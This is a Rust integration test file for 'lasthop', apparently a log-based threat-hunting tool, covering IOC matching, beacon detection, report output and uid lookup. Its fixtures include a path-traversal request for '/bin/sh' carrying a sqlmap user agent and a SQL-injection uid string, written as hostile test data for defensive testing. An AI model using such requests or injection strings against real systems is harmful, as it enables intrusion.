    std::fs::write(dir.path().join("dns.log"), dns).unwrap();
    let out = lasthop(&[
        "hunt",
        dir.path().to_str().unwrap(),
        "--ioc-file",
        feed.to_str().unwrap(),
        "--no-bundled-intel",
        "--format",
        "json",
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(stderr(&out).contains("4 indicator(s)"), "{}", stderr(&out));
    let mut matched: Vec<String> = findings_of(&out)
        .iter()
        .filter(|f| f["detector"] == "ioc-match")
        .map(|f| f["title"].as_str().unwrap().to_string())
        .collect();
    matched.sort();
    assert_eq!(
        matched,
        [
            "10.55.100.104 contacted listed indicator 24.220.113.36",
            "10.55.100.111 looked up names under listed domain 0.gravatar.com",
            "10.55.100.111 looked up names under listed domain r-1x.com",
            "192.168.88.2 contacted listed indicator 165.227.88.15",
        ]
    );
}

/// Name beacons to a 16-character and a 4-character name (the byte lengths of an IPv6 and an
/// IPv4 address), with conn and ssl logs.
fn write_name_beacons(dir: &Path, names: &[(&str, &str, &str)]) {
    let mut conn = String::from(CONN_HEADER);
    let mut ssl = String::from(
        "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tssl\n\
         #fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tserver_name\n\
         #types\ttime\tstring\taddr\tport\taddr\tport\tstring\n",
    );
    let start = 1_717_372_800u64;
    for (n, (source, address, name)) in names.iter().enumerate() {
        for i in 0..300u64 {
            let ts = start + i * 600 + (i * 37 + n as u64 * 11) % 40;
            let uid = format!("Cn{n}x{i}");
            conn.push_str(&format!(
                "{ts}.5\t{uid}\t{source}\t{}\t{address}\t443\ttcp\tssl\t0.5\t700\t900\tSF\t-\n",
                40000 + i
            ));
            ssl.push_str(&format!(
                "{ts}.5\t{uid}\t{source}\t{}\t{address}\t443\t{name}\n",
                40000 + i
            ));
        }
    }
    std::fs::write(dir.join("conn.log"), conn).unwrap();
    std::fs::write(dir.join("ssl.log"), ssl).unwrap();
}

#[test]
fn names_of_address_length_stay_names_in_every_sink() {
    let dir = tempfile::tempdir().unwrap();
    let logs = dir.path().join("logs");
    std::fs::create_dir_all(&logs).unwrap();
    // 16 bytes like an IPv6 address, 4 like an IPv4 one.
    let (long, short) = ("cdn.updates.info", "a.io");
    assert_eq!((long.len(), short.len()), (16, 4));
    write_name_beacons(
        &logs,
        &[("10.0.0.5", "45.63.1.9", long), ("10.0.0.6", "45.63.1.10", short)],
    );
    let store = dir.path().join("store");
    let out = |name: &str| dir.path().join(name);
    let (html, stix, layer) = (out("r.html"), out("s.json"), out("l.json"));
    let hunt = lasthop(&[
        "hunt",
        logs.to_str().unwrap(),
        "--store",
        store.to_str().unwrap(),
        "--format",
        "ndjson",
        "--html",
        html.to_str().unwrap(),
        "--stix",
        stix.to_str().unwrap(),
        "--attack-layer",
        layer.to_str().unwrap(),
    ]);
    assert!(hunt.status.success(), "{}", stderr(&hunt));
    let mut outputs = vec![("ndjson", stdout(&hunt))];
    for (what, path) in [("html", &html), ("stix", &stix), ("layer", &layer)] {
        outputs.push((what, std::fs::read_to_string(path).unwrap()));
    }
    for format in ["json", "csv", "table"] {
        let o = lasthop(&["report", "--store", store.to_str().unwrap(), "--format", format]);
        assert!(o.status.success(), "{format}: {}", stderr(&o));
        outputs.push((format, stdout(&o)));
    }
    let ndjson: Vec<serde_json::Value> =
        outputs[0].1.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    for name in [long, short] {
        let beacon = ndjson
            .iter()
            .find(|f| f["destination"]["domain"] == name)
            .unwrap_or_else(|| panic!("no finding names {name}: {ndjson:#?}"));
        // A name beacon's destination is the name; its address, when given, is a real one.
        let address = beacon["destination"]["address"].as_str().unwrap_or("45.63.1.");
        assert!(address.starts_with("45.63.1."), "{name}: destination.address {address:?}");
    }
    // The bytes of the names read as addresses: 6364:6e2e:… and 97.46.105.111.
    for (what, text) in &outputs {
        if *what != "layer" {
            assert!(text.contains(long), "{what} lacks {long}");
        }
        assert!(!text.contains("6364:6e2e"), "{what} shows {long} as an IPv6 address");
        assert!(!text.contains("97.46.105.111"), "{what} shows {short} as an IPv4 address");
    }
}

#[test]
fn a_memory_limit_below_what_the_process_needs_is_refused_in_one_line() {
    let dir = tempfile::tempdir().unwrap();
    write_conn(dir.path(), 10, &[]);
    let o = lasthop(&["hunt", dir.path().to_str().unwrap(), "--memory-limit", "64MB"]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    let text = stderr(&o);
    assert_eq!(text.trim().lines().count(), 1, "{text}");
    assert!(text.contains("below the minimum of 384 MiB"), "{text}");
    // At the minimum the hunt runs every detector.
    let o = lasthop(&["hunt", dir.path().to_str().unwrap(), "--memory-limit", "384MB"]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(!stderr(&o).contains("failed"), "{}", stderr(&o));
}

#[test]
fn a_findings_records_are_one_table_row_each_in_the_html_report() {
    let dir = tempfile::tempdir().unwrap();
    let logs = dir.path().join("logs");
    std::fs::create_dir(&logs).unwrap();
    let mut log = String::new();
    for i in 0..5 {
        log.push_str(&format!(
            "198.51.100.7 - - [03/Jun/2024:10:0{i}:00 +0000] \"GET /cgi-bin/.%2e/.%2e/.%2e/bin/sh?n={i} HTTP/1.1\" 200 {} \"-\" \"sqlmap/1.7.2#stable (https://sqlmap.org)\"\n",
            500 + i
        ));
    }
    std::fs::write(logs.join("access.log"), log).unwrap();
    let page = dir.path().join("report.html");
    let out = lasthop(&["hunt", logs.to_str().unwrap(), "--html", page.to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
    let html = std::fs::read_to_string(&page).unwrap();
    let start = html.find("<div class=\"records\">").expect("a records table");
    let table = &html[start..start + html[start..].find("</table>").unwrap()];
    // A header row naming the log's columns, then one row per record.
    assert!(table.contains("<th>line</th>") && table.contains("<th>place</th>"), "{table}");
    assert_eq!(table.matches("<tr>").count(), 6, "{table}");
    for i in 0..5 {
        assert!(table.contains(&format!("access.log:{}", i + 1)), "record {i} in {table}");
    }
    let Some(browser) = chromium() else {
        assert!(std::env::var_os("CI").is_none(), "CI installs Debian's chromium for this test");
        return;
    };
    let artefacts = std::env::var_os("LASTHOP_ARTIFACTS")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from(env!("CARGO_TARGET_TMPDIR")));
    std::fs::create_dir_all(&artefacts).unwrap();
    let screenshot = artefacts.join("records-table.png");
    let _ = std::fs::remove_file(&screenshot);
    render(browser, &page, &screenshot, &dir.path().join("profile"));
    let size = std::fs::metadata(&screenshot).map(|m| m.len()).unwrap_or(0);
    assert!(size > 10_000, "chromium wrote a screenshot of the records table");
    eprintln!("screenshot: {}", screenshot.display());
}

/// `lasthop show` looks up a finding's records by their uids, which come from the logs: quotes,
/// backslashes, `%`, a NUL byte, an injection attempt and a 100 kB uid are bound as data, so each
/// finds exactly its own record and nothing else.
#[test]
fn show_finds_records_by_hostile_uids_and_nothing_else() {
    let dir = tempfile::tempdir().unwrap();
    let hostile = [
        "C'it".to_string(),
        "Cback\\slash\\'".to_string(),
        "C100%_".to_string(),
        "Cnul\0byte".to_string(),
        "C') OR ('1'='1".to_string(),
        format!("C{}", "a".repeat(100_000)),
    ];
    let mut log = String::new();
    for (i, uid) in hostile.iter().enumerate() {
        let record = serde_json::json!({"_path": "conn", "ts": 1_700_000_000 + i, "uid": uid,
            "id.orig_h": "10.0.0.5", "id.orig_p": 40000 + i, "id.resp_h": "198.51.100.7",
            "id.resp_p": 443, "proto": "tcp"});
        log.push_str(&format!("{record}\n"));
    }
    // A record the finding does not name, whose uid a pasted `%` or `_` pattern would match.
    let control = serde_json::json!({"_path": "conn", "ts": 1_700_000_100, "uid": "C100x_",
        "id.orig_h": "10.0.0.6", "id.orig_p": 50000, "id.resp_h": "198.51.100.7",
        "id.resp_p": 443, "proto": "tcp"});
    log.push_str(&format!("{control}\n"));
    let logs = dir.path().join("conn.log");
    std::fs::write(&logs, log).unwrap();
    let store = dir.path().join("store");
    let s = store.to_str().unwrap();
    let imported = lasthop(&["import", logs.to_str().unwrap(), "--store", s]);
    assert!(imported.status.success(), "{}", stderr(&imported));
    let entities =
        lasthop_findings::Entities { source: Some("10.0.0.5".into()), ..Default::default() };
    let mut finding = lasthop_findings::Finding::new("beacon", "test".into(), 0.8, entities);
    finding.evidence.uids = hostile.to_vec();
    let line = serde_json::to_string(&finding).unwrap();
    std::fs::write(store.join("findings.jsonl"), format!("{line}\n")).unwrap();

    let shown = lasthop(&["show", &finding.id, "--store", s]);
    assert!(shown.status.success(), "{}", stderr(&shown));
    let out = stdout(&shown);
    let records = out.lines().filter(|l| l.contains("10.0.0.5") && l.contains("198.51.100.7"));
    assert_eq!(records.count(), hostile.len(), "{out:.2000}");
    assert!(!out.contains("10.0.0.6"), "the control record is not the finding's: {out:.2000}");
    assert!(!out.contains('\0'), "a NUL never reaches the terminal raw");
}
